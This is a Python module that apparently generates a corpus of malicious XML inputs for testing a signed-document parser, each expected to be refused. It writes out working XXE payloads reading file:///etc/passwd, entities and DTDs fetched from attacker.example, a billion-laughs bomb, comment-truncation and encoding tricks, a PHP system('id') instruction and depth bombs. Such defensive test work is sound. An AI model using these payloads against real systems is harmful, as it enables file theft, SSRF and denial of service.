"""Documents against the parser: DTDs and entities (external, parameter, billion laughs, hidden behind UTF-16),
comments and processing instructions, depth bombs, a truncated document."""

from __future__ import annotations

from .base import COMMENTS_REFUSED, DOCTYPE_REFUSED, EVIL_TITLE
from .document_corpus import Context


def parser_attacks(c: Context) -> None:
    """The parser: DTDs, entities, comments, processing instructions, depth, encoding."""
    signed, title, add = c.signed, c.title, c.add
    declaration_end = signed.index(b"?>\n") + 3
    head, body_bytes = signed[:declaration_end], signed[declaration_end:]
    title_bytes = title.encode("utf-8")

    add(
        "doctype",
        head + b"<!DOCTYPE gw:Document>\n" + body_bytes,
        "XmlInputError",
        DOCTYPE_REFUSED,
        "The valid signed notice with a bare DOCTYPE in front of the document element.",
    )
    add(
        "internal-entity",
        head
        + b'<!DOCTYPE gw:Document [<!ENTITY title "'
        + EVIL_TITLE.encode()
        + b'">]>\n'
        + body_bytes.replace(title_bytes, b"&title;"),
        "XmlInputError",
        DOCTYPE_REFUSED,
        "An internal entity declared in the DTD replaces the Title (entity substitution changes what is read).",
    )
    add(
        "external-entity-file",
        head
        + b'<!DOCTYPE gw:Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        + body_bytes.replace(title_bytes, b"&xxe;"),
        "XmlInputError",
        DOCTYPE_REFUSED,
        "XXE: an external entity SYSTEM file:///etc/passwd read into the Title.",
    )
    add(
        "external-entity-http",
        head
        + b'<!DOCTYPE gw:Document [<!ENTITY xxe SYSTEM "http://attacker.example/leak?d=gongwen">]>\n'
        + body_bytes.replace(title_bytes, b"&xxe;"),
        "XmlInputError",
        DOCTYPE_REFUSED,
        "XXE / SSRF: an external entity fetched over HTTP.",
    )
    add(
        "external-parameter-entity",
        head
        + b'<!DOCTYPE gw:Document [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n'
        + body_bytes,
        "XmlInputError",
        DOCTYPE_REFUSED,
        "Out-of-band XXE: a parameter entity that loads a remote DTD.",
    )
    add(
        "external-dtd",
        head + b'<!DOCTYPE gw:Document SYSTEM "http://attacker.example/gongwen.dtd">\n' + body_bytes,
        "XmlInputError",
        DOCTYPE_REFUSED,
        "A DOCTYPE naming an external DTD subset on an attacker's server.",
    )
    laughs = b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _ in range(10))) for i in range(1, 10)
    )
    add(
        "billion-laughs",
        head
        + b'<!DOCTYPE gw:Document [<!ENTITY lol0 "lol">'
        + laughs
        + b"]>\n"
        + body_bytes.replace(title_bytes, b"&lol9;"),
        "XmlInputError",
        DOCTYPE_REFUSED,
        "Billion laughs: nested entities expanding to 10^9 copies of 'lol' in the Title.",
    )
    utf16 = (
        head
        + b'<!DOCTYPE gw:Document [<!ENTITY title "'
        + EVIL_TITLE.encode()
        + b'">]>\n'
        + body_bytes.replace(title_bytes, b"&title;")
    ).decode("utf-8")
    add(
        "utf16-hidden-doctype",
        utf16.replace("encoding='UTF-8'", "encoding='UTF-16'").encode("utf-16"),
        "XmlInputError",
        "malformed XML: Start tag expected, '<' not found",
        "The internal-entity attack encoded as UTF-16, so that a byte scan for '<!DOCTYPE' finds nothing; the "
        "parser reads UTF-8 only and refuses it.",
    )
    add(
        "comment-in-title",
        body_bytes.replace(title_bytes, title_bytes.replace("办公厅".encode(), "办公厅<!---->".encode(), 1)),
        "XmlInputError",
        COMMENTS_REFUSED,
        "Comment truncation (SAML 2018): a comment splits the Title text; C14N without comments still gives the "
        "signed digest, but a reader of the first text node sees only the part before the comment.",
    )
    add(
        "comment-before-root",
        head + b"<!-- \xe5\xb7\xb2\xe5\xae\xa1\xe6\xa0\xb8 -->\n" + body_bytes,
        "XmlInputError",
        COMMENTS_REFUSED,
        "A comment before the document element (outside what C14N of the root covers).",
    )
    add(
        "processing-instruction",
        head + b'<?xml-stylesheet type="text/xsl" href="http://attacker.example/render.xsl"?>\n' + body_bytes,
        "XmlInputError",
        COMMENTS_REFUSED,
        "A processing instruction (xml-stylesheet pointing at an attacker's server) before the document element.",
    )
    add(
        "processing-instruction-in-body",
        body_bytes.replace(b"<gw:Body>", b"<gw:Body><?php system('id'); ?>", 1),
        "XmlInputError",
        COMMENTS_REFUSED,
        "A processing instruction inside the Body.",
    )
    nest = 40
    add(
        "depth-bomb",
        body_bytes.replace(
            b"<gw:Body>",
            b"<gw:Body>" + b"<x:d xmlns:x='urn:attacker:evil'>" + b"<x:d>" * (nest - 1) + b"</x:d>" * nest,
            1,
        ),
        "XmlInputError",
        "XML is nested deeper than 32 levels",
        f"{nest} nested elements inside the Body (limit 32): refused by the parser before any digest is computed.",
    )
    nest = 5000
    add(
        "depth-bomb-deep",
        body_bytes.replace(b"<gw:Body>", b"<gw:Body>" + b"<d>" * nest + b"</d>" * nest, 1),
        "XmlInputError",
        "Excessive depth",
        f"{nest} nested elements: libxml2's own depth limit stops it while parsing.",
    )
    add(
        "truncated",
        signed[: signed.rindex(b">", 0, len(signed) // 2) + 1],
        "XmlInputError",
        "malformed XML: Premature end of data in tag P",
        "The signed notice cut in half (after a tag).",
    )
